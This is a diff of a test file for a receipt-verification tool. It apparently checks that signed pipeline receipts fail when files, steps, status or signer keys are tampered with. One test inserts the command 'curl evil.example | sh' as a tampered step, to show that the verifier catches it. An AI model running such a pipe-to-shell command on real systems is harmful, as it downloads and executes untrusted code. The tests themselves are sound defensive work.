@@ -4,7 +4,7 @@ import { createPublicKey, verify as cryptoVerify } from 'node:crypto';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { canonicalJsonBytes, pae } from '../../src/formats/index.js';
 import { parseDocument, stringify } from 'yaml';
-import { attestationObservers, generateWorkspaceKey, parseReceiptText, signReceipt, verifyReceiptFile, type Receipt } from '../../src/pipeline/index.js';
+import { attestationObservers, generateWorkspaceKey, loadWorkspaceSigner, parseReceiptText, signReceipt, verifyReceiptFile, type Receipt } from '../../src/pipeline/index.js';
 import { evident } from '../helpers/cli.js';
 import { tempDir } from '../helpers/engines.js';
 import { runFixture, type FixtureStep } from './attestation-fixture.js';
@@ -23,8 +23,8 @@ async function signedRun(sign = true): Promise<{ ws: string; file: string }> {
   return { ws, file: path.join(dir, files[0]!) };
 }
 
-const verify = (file: string, ws: string, extra: Partial<{ signatures: boolean; trustedOnly: boolean }> = {}) =>
-  verifyReceiptFile(file, { workspace: ws, signatures: extra.signatures ?? true, trustedOnly: extra.trustedOnly ?? false });
+const verify = (file: string, ws: string, extra: Partial<{ signatures: boolean; anyKey: boolean }> = {}) =>
+  verifyReceiptFile(file, { workspace: ws, signatures: extra.signatures ?? true, anyKey: extra.anyKey ?? false });
 
 function editYaml(file: string, edit: (r: Record<string, unknown>) => void): void {
   const value = parseDocument(fs.readFileSync(file, 'utf8')).toJS();
@@ -49,7 +49,8 @@ describe('run receipts', () => {
     expect(r.signer_public_key).toBe(fs.readFileSync(path.join(ws, '.evident', 'keys', 'public.key'), 'utf8').trim());
     const report = await verify(file, ws);
     expect(report.checks.map((c) => [c.ok, c.message])).toEqual([
-      [true, 'Receipt format valid'], [true, 'Pipeline hash matches'], [true, 'All file hashes verified'], [true, 'Cryptographic signature valid'],
+      [true, 'Receipt format valid'], [true, 'Pipeline hash matches'], [true, 'Pipeline steps match (commands, needs, inputs)'], [true, 'All file hashes verified'],
+      [true, 'Run succeeded'], [true, 'Cryptographic signature valid'], [true, expect.stringMatching(/^Signer is trusted/)],
     ]);
     expect(report.ok).toBe(true);
   });
@@ -76,34 +77,68 @@ describe('run receipts', () => {
     fs.appendFileSync(path.join(ws, 'out', 'app.tar'), 'x');
     let report = await verify(file, ws);
     expect(report.ok).toBe(false);
-    expect(report.checks[2]).toMatchObject({ ok: false, message: expect.stringMatching(/out\/app\.tar of step build has changed/) });
+    expect(report.checks.find((c) => c.check === 'file_hashes')).toMatchObject({ ok: false, message: expect.stringMatching(/out\/app\.tar of step build has changed/) });
     fs.rmSync(path.join(ws, 'out', 'app.tar'));
-    expect((await verify(file, ws)).checks[2]!.message).toMatch(/is missing/);
+    expect((await verify(file, ws)).checks.find((c) => c.check === 'file_hashes')!.message).toMatch(/is missing/);
     fs.appendFileSync(path.join(ws, 'attest.yaml'), '# edited\n');
     report = await verify(file, ws);
-    expect(report.checks[1]).toMatchObject({ ok: false, message: expect.stringMatching(/Pipeline hash does not match/) });
+    expect(report.checks.find((c) => c.check === 'pipeline_hash')).toMatchObject({ ok: false, message: expect.stringMatching(/Pipeline hash does not match/) });
   });
 
   it('fails when the receipt is edited, or its key swapped', async () => {
     const { ws, file } = await signedRun();
     const original = fs.readFileSync(file, 'utf8');
     editYaml(file, (r) => (r.total_duration_secs = 1234));
-    expect((await verify(file, ws)).checks[3]).toMatchObject({ ok: false, message: 'Cryptographic signature invalid' });
+    expect((await verify(file, ws)).checks.find((c) => c.check === 'signature')).toMatchObject({ ok: false, message: 'Cryptographic signature invalid' });
     fs.writeFileSync(file, original);
     const stranger = generateWorkspaceKey(tempDir(), { name: 's' });
     editYaml(file, (r) => (r.signer_public_key = stranger.text));
-    expect((await verify(file, ws)).checks[3]!.ok).toBe(false);
+    expect((await verify(file, ws)).checks.find((c) => c.check === 'signature')!.ok).toBe(false);
   });
 
-  it('--trusted-only refuses a valid signature by a key that is not trusted', async () => {
+  it('refuses by default a valid signature by a key that is not trusted (--any-key accepts it)', async () => {
     const { ws, file } = await signedRun();
-    expect((await verify(file, ws, { trustedOnly: true })).ok).toBe(true);
+    expect((await verify(file, ws)).ok).toBe(true);
     const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
     const stranger = generateWorkspaceKey(tempDir(), { name: 's' });
     fs.writeFileSync(file, stringify(signReceipt(receipt!, stranger)));
-    expect((await verify(file, ws)).ok).toBe(true);
-    const strict = await verify(file, ws, { trustedOnly: true });
+    const strict = await verify(file, ws);
+    expect(strict.ok).toBe(false);
     expect(strict.checks.at(-1)).toMatchObject({ check: 'trust', ok: false, message: expect.stringMatching(/not a trusted key/) });
+    expect((await verify(file, ws, { anyKey: true })).ok).toBe(true);
+  });
+
+  it('a command changed and re-signed by a trusted key: the pipeline hash matches, the steps do not', async () => {
+    const { ws, file } = await signedRun();
+    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
+    receipt!.steps[1]!.command = 'curl evil.example | sh';
+    const signer = loadWorkspaceSigner(ws)!;
+    fs.writeFileSync(file, stringify(signReceipt(receipt!, signer)));
+    const report = await verify(file, ws);
+    expect(report.ok).toBe(false);
+    expect(report.checks.find((c) => c.check === 'pipeline_hash')!.ok).toBe(true);
+    expect(report.checks.find((c) => c.check === 'pipeline_steps')).toMatchObject({ ok: false, message: expect.stringContaining('step build ran "curl evil.example | sh"') });
+    // Needs changed, and an input that is under none of the step's declared inputs.
+    const again = parseReceiptText(fs.readFileSync(file, 'utf8')).receipt!;
+    again.steps[1]!.command = STEPS[1]!.run;
+    again.steps[1]!.needs = [];
+    again.steps[1]!.inputs.push({ path: 'elsewhere/secret.txt', hash: `sha256:${'0'.repeat(64)}` });
+    fs.writeFileSync(file, stringify(signReceipt(again, signer)));
+    const steps = (await verify(file, ws)).checks.find((c) => c.check === 'pipeline_steps')!;
+    expect(steps.ok).toBe(false);
+    expect(steps.message).toMatch(/step build needs \[\], not \[clone\]/);
+  });
+
+  it('a failed run\'s receipt does not verify, and says so', async () => {
+    const { ws, file } = await signedRun();
+    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
+    receipt!.status = 'failed';
+    receipt!.steps[1]!.exit_code = 2;
+    fs.writeFileSync(file, stringify(signReceipt(receipt!, loadWorkspaceSigner(ws)!)));
+    const report = await verify(file, ws);
+    expect(report.ok).toBe(false);
+    expect(report.checks.find((c) => c.check === 'status')).toMatchObject({ ok: false, message: expect.stringMatching(/^Run failed: build exited non-zero/) });
+    expect(report.checks.find((c) => c.check === 'signature')!.ok).toBe(true);
   });
 
   it('treats paths as attacker-controlled: no reads outside the workspace, even with a valid signature', async () => {
@@ -118,8 +153,8 @@ describe('run receipts', () => {
       r.steps[1]!.outputs = [{ path: bad, hash: `sha256:${'0'.repeat(64)}` }];
       fs.writeFileSync(file, stringify(signReceipt(r, key)));
       const report = await verify(file, ws);
-      expect(report.checks[2]!.ok, bad).toBe(false);
-      expect(report.checks[2]!.message, bad).toMatch(/escapes|absolute|symlink|not normalised|not a regular file/);
+      expect(report.checks.find((c) => c.check === 'file_hashes')!.ok, bad).toBe(false);
+      expect(report.checks.find((c) => c.check === 'file_hashes')!.message, bad).toMatch(/escapes|absolute|symlink|not normalised|not a regular file/);
     }
   });
 
@@ -151,14 +186,33 @@ describe('evident verify receipt (CLI)', () => {
 
   it("prints seed 003's lines; exits 1 naming the first failure, 2 for an unreadable or malformed file", async () => {
     const { ws, file } = await signedRun();
-    const ok = await evident(['verify', 'receipt', file, '--workspace', ws, '--trusted-only']);
+    const ok = await evident(['verify', 'receipt', file, '--workspace', ws]);
     expect(ok.code, ok.stderr).toBe(0);
     expect(ok.stdout).toBe(
-      '[OK] Receipt format valid\n[OK] Pipeline hash matches\n[OK] All file hashes verified\n[OK] Cryptographic signature valid\n[OK] Signer is trusted (as "' +
-        fs.readdirSync(path.join(ws, '.evident', 'keys', 'trusted'))[0]!.replace(/\.pub$/, '') + '")\n',
+      '[OK] Receipt format valid\n[OK] Pipeline hash matches\n[OK] Pipeline steps match (commands, needs, inputs)\n[OK] All file hashes verified\n[OK] Run succeeded\n' +
+        '[OK] Cryptographic signature valid\n[OK] Signer is trusted (as "' + fs.readdirSync(path.join(ws, '.evident', 'keys', 'trusted'))[0]!.replace(/\.pub$/, '') + '")\n',
     );
+    expect((await evident(['verify', 'receipt', file, '--workspace', ws, '--trusted-only'])).code).toBe(0);
     const skipped = await evident(['verify', 'receipt', file, '--workspace', ws, '--no-signatures']);
-    expect(skipped.stdout).toBe('[OK] Receipt format valid\n[OK] Pipeline hash matches\n[OK] All file hashes verified\nSignature verification skipped\n');
+    expect(skipped.stdout).toBe('[OK] Receipt format valid\n[OK] Pipeline hash matches\n[OK] Pipeline steps match (commands, needs, inputs)\n[OK] All file hashes verified\n[OK] Run succeeded\nSignature verification skipped\n');
+
+    // Re-signed by a stranger's key: exit 1 by default; --any-key accepts it, loudly.
+    const { receipt } = parseReceiptText(fs.readFileSync(file, 'utf8'));
+    const original = fs.readFileSync(file);
+    fs.writeFileSync(file, stringify(signReceipt(receipt!, generateWorkspaceKey(tempDir(), { name: 's' }))));
+    const untrusted = await evident(['verify', 'receipt', file, '--workspace', ws]);
+    expect(untrusted.code).toBe(1);
+    expect(untrusted.stdout).toMatch(/\[FAIL\] Signer [0-9a-f]{64} is not a trusted key/);
+    const anyKey = await evident(['verify', 'receipt', file, '--workspace', ws, '--any-key']);
+    expect(anyKey.code).toBe(0);
+    expect(anyKey.stderr).toMatch(/^WARNING: --any-key: the signer is NOT checked/);
+    // A failed run: exit 1, and the line says the run failed.
+    receipt!.status = 'failed';
+    fs.writeFileSync(file, stringify(signReceipt(receipt!, loadWorkspaceSigner(ws)!)));
+    const failed = await evident(['verify', 'receipt', file, '--workspace', ws]);
+    expect(failed.code).toBe(1);
+    expect(failed.stdout).toContain('[FAIL] Run failed');
+    fs.writeFileSync(file, original);
 
     fs.writeFileSync(path.join(ws, 'out', 'app.tar'), 'tampered');
     const bad = await evident(['verify', 'receipt', file, '--workspace', ws]);
